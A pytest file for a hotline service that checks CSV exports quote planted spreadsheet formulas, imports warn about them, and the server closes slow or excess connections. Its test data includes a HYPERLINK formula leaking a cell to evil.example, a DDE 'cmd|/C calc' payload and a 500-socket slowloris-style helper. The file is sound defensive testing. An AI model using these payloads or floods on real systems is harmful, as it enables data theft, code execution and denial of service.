"""Attacks on what surrounds the service: spreadsheets opened from its CSV exports, and the
slow clients a public port attracts (issue 11, findings 14 and 16)."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import html
import io
import re
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import replace
from pathlib import Path

import aiohttp
import asyncpg
import pytest
from aiohttp.test_utils import TestClient

from gateway.phones import normalize
from storage.csv_files import csv_cell, formula_warnings
from storage.officials import PHONE_COLUMNS, Official, format_officials, parse_officials
from storage.registry_csv import format_agencies, parse_agencies
from storage.sample import sample_agencies
from storage.tips import CATEGORIES
from tests.console_helpers import sign_in
from tests.processes import free_port, service_env
from tests.test_cli import hotline
from tests.test_console_uploads import upload
from tests.test_faults import HOTLINE

PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
AGENCY = replace(sample_agencies()[0], name=PLANTED, head_office_city="@SUM(1+1)", is_sample=False)
OFFICIAL = Official(
    name="-2+3+cmd|' /C calc'!A0",
    role="Camat",
    phone="+6281199000007",
    office="+Kecamatan Pontang",
    kecamatan_codes=("36.04.12",),
    categories=("*",),
    tier=1,
)
OFFICIALS_HEADER = "name,role,phone,office,kecamatan_codes,categories,tier,active"


def cells(text: str) -> list[dict[str, str]]:
    """The rows of a CSV text as a spreadsheet receives them."""
    return list(csv.DictReader(io.StringIO(text)))


def officials_file(*rows: str) -> str:
    """An officials file with these rows."""
    return "".join(f"{line}\n" for line in (OFFICIALS_HEADER, *rows))


class TestExportDefusesFormulas:
    def test_registry_export_quotes_a_planted_formula(self) -> None:
        """A registry name a spreadsheet would run is exported behind a quote."""
        row = cells(format_agencies([AGENCY]))[0]
        assert ("'" + PLANTED, "'@SUM(1+1)") == (row["name"], row["head_office_city"])

    def test_officials_export_quotes_name_and_office(self) -> None:
        """An official's name and office that start a formula are exported behind a quote."""
        row = cells(format_officials([OFFICIAL]))[0]
        assert ("'" + OFFICIAL.name, "'" + OFFICIAL.office) == (row["name"], row["office"])

    def test_officials_export_keeps_the_phone_number(self) -> None:
        """A +62... number in the phone column is exported exactly as stored."""
        assert "+6281199000007" == cells(format_officials([OFFICIAL]))[0]["phone"]

    def test_phone_cell_with_a_formula_is_still_quoted(self) -> None:
        """Only a plain number is exempt in a phone column: a formula there is quoted too."""
        assert "'+A1*2" == csv_cell("+A1*2", phone=True)

    def test_registry_export_imports_unchanged(self) -> None:
        """The import reads the export's quote back off: the round trip keeps the value."""
        assert [AGENCY] == parse_agencies(format_agencies([AGENCY]))

    def test_officials_export_imports_unchanged(self) -> None:
        """The officials export parses back to the same official."""
        parsed = parse_officials(format_officials([OFFICIAL]), normalize, {"36.04.12"}, CATEGORIES)
        assert [OFFICIAL] == parsed


class TestImportWarns:
    def test_registry_cell_is_named_by_line_and_column(self) -> None:
        """A registry file's formula-like cells are each named by line and column."""
        text = format_agencies([sample_agencies()[1], AGENCY]).replace("'", "")
        found = [(w.line, w.field) for w in formula_warnings(text)]
        assert [(3, "name"), (3, "head_office_city")] == found

    def test_phone_numbers_do_not_warn(self) -> None:
        """+62 numbers, spaced or dashed, in the phone column are not warnings."""
        text = officials_file(
            "Agus,Camat,+6281199000007,Kantor,36.04.12,*,1,true",
            "Nur,Petugas,+62 811-9900-0039,Kantor,36.04.12,*,1,true",
        )
        assert [] == formula_warnings(text, PHONE_COLUMNS)

    def test_officials_name_warns(self) -> None:
        """A formula-like name in an officials file is a warning on its line and column."""
        text = officials_file("@cmd,Camat,+6281199000007,Kantor,36.04.12,*,1,true")
        assert [(2, "name")] == [(w.line, w.field) for w in formula_warnings(text, PHONE_COLUMNS)]

    async def test_cli_registry_import_prints_the_warning(
        self, database_url: str, tmp_path: Path
    ) -> None:
        """`hotline registry import` names the line and column of a formula on standard error."""
        path = tmp_path / "registry.csv"
        path.write_text(format_agencies([AGENCY]).replace("'", ""), "utf-8")
        run = await hotline(database_url, "registry", "import", str(path), "--dry-run")
        assert 0 == run.code
        assert f"warning: {path}: line 2, name: starts with '='" in run.stderr

    async def test_console_preview_lists_the_warning(
        self, client: TestClient, conn: asyncpg.Connection
    ) -> None:
        """The upload preview lists each formula-like cell by line and column."""
        await sign_in(client, conn, "admin")
        text = format_agencies([*sample_agencies()[1:], AGENCY]).replace("'", "")
        page = await (await upload(client, "registry", text.encode())).text()
        body = page.split('<section id="warnings">', 1)[1].split("</section>", 1)[0]
        rows = re.findall(r"<tr><td[^>]*>(\d+)</td><td[^>]*>([^<]*)</td>", body)
        line = str(len(sample_agencies()) + 1)
        assert [(line, "name"), (line, "head_office_city")] == [
            (n, html.unescape(f)) for n, f in rows
        ]


class TestCliExport:
    async def test_officials_export_is_defused(
        self, database_url: str, conn: asyncpg.Connection, tmp_path: Path
    ) -> None:
        """`hotline officials export` quotes a planted name and keeps the +62 number."""
        path = tmp_path / "officials.csv"
        path.write_text(
            officials_file(
                f"{PLANTED.replace(',', ';')},Camat,+6281199000007,Kantor,36.04.12,*,1,true"
            ),
            "utf-8",
        )
        imported = await hotline(database_url, "officials", "import", str(path))
        assert 0 == imported.code, imported.stderr
        row = cells((await hotline(database_url, "officials", "export")).stdout)[0]
        assert ("'" + PLANTED.replace(",", ";"), "+6281199000007") == (row["name"], row["phone"])

    async def test_registry_export_is_defused(
        self, database_url: str, conn: asyncpg.Connection, tmp_path: Path
    ) -> None:
        """`hotline registry export` quotes a planted name."""
        path = tmp_path / "registry.csv"
        path.write_text(format_agencies([AGENCY]), "utf-8")
        assert 0 == (await hotline(database_url, "registry", "import", str(path))).code
        row = cells((await hotline(database_url, "registry", "export")).stdout)[0]
        assert "'" + PLANTED == row["name"]


Serve = Callable[..., Awaitable[int]]


@pytest.fixture
async def serve(database_url: str, tmp_path: Path) -> AsyncIterator[Serve]:
    """Start `hotline serve` as a real process with extra settings; gives its port once ready."""
    processes: list[asyncio.subprocess.Process] = []

    async def start(**settings: str) -> int:
        port = free_port()
        env = service_env(
            database_url,
            tmp_path,
            port,
            HOTLINE_CALLBACK_TOKEN="deploy-callback-token-0123456789",
            **settings,
        )
        process = await asyncio.create_subprocess_exec(
            HOTLINE, "serve", env=env, stdout=asyncio.subprocess.DEVNULL
        )
        processes.append(process)
        async with aiohttp.ClientSession() as http:
            for _ in range(150):
                with contextlib.suppress(aiohttp.ClientError):
                    async with http.get(f"http://127.0.0.1:{port}/healthz") as response:
                        if response.status == 200:
                            return port
                await asyncio.sleep(0.1)
        raise AssertionError("hotline serve did not start")

    yield start
    for process in processes:
        process.terminate()
        await process.wait()


async def trickle(port: int, give_up_s: float) -> float | None:
    """Send a request head a header line at a time, forever; seconds until the server closed the
    connection, or None if it was still open after `give_up_s`."""
    loop = asyncio.get_running_loop()
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    started = loop.time()

    async def drip() -> None:
        with contextlib.suppress(OSError):
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: hotline\r\n")
            while True:
                await asyncio.sleep(0.2)
                writer.write(b"X-Slow: 1\r\n")
                await writer.drain()

    dripping = asyncio.create_task(drip())
    try:
        async with asyncio.timeout(give_up_s):
            with contextlib.suppress(ConnectionResetError):
                await reader.read()  # until the server closes
        return loop.time() - started
    except TimeoutError:
        return None
    finally:
        dripping.cancel()
        writer.close()


async def get_healthz(port: int) -> int:
    """A normal request's status."""
    async with (
        aiohttp.ClientSession() as http,
        http.get(f"http://127.0.0.1:{port}/healthz") as response,
    ):
        return response.status


class TestSlowClients:
    async def test_trickled_heads_are_closed_after_the_header_timeout(self, serve: Serve) -> None:
        """500 sockets trickling a request head are all closed about 1 s after they opened."""
        port = await serve(HOTLINE_HEADER_TIMEOUT_S="1")
        closed = await asyncio.gather(*(trickle(port, give_up_s=6) for _ in range(500)))
        assert [] == [c for c in closed if c is None or not 0.5 <= c <= 4]

    async def test_normal_request_succeeds_while_heads_trickle(self, serve: Serve) -> None:
        """While 500 sockets trickle, an ordinary request is answered."""
        port = await serve(HOTLINE_HEADER_TIMEOUT_S="2")
        slow = [asyncio.create_task(trickle(port, give_up_s=6)) for _ in range(500)]
        await asyncio.sleep(0.5)
        status = await get_healthz(port)
        await asyncio.gather(*slow)
        assert 200 == status

    async def test_connections_over_the_cap_get_503(self, serve: Serve) -> None:
        """With the cap held by silent sockets, the next connection is told 503 and closed."""
        port = await serve(HOTLINE_MAX_CONNECTIONS="20", HOTLINE_HEADER_TIMEOUT_S="30")
        held = [await asyncio.open_connection("127.0.0.1", port) for _ in range(20)]
        await asyncio.sleep(0.2)
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        answer = await asyncio.wait_for(reader.read(), timeout=5)
        writer.close()
        for _, held_writer in held:
            held_writer.close()
        assert answer.startswith(b"HTTP/1.1 503 ")

    async def test_a_freed_slot_serves_again(self, serve: Serve) -> None:
        """Once the silent sockets go, requests are served again."""
        port = await serve(HOTLINE_MAX_CONNECTIONS="20", HOTLINE_HEADER_TIMEOUT_S="30")
        held = [await asyncio.open_connection("127.0.0.1", port) for _ in range(20)]
        for _, held_writer in held:
            held_writer.close()
        await asyncio.sleep(0.3)
        assert 200 == await get_healthz(port)
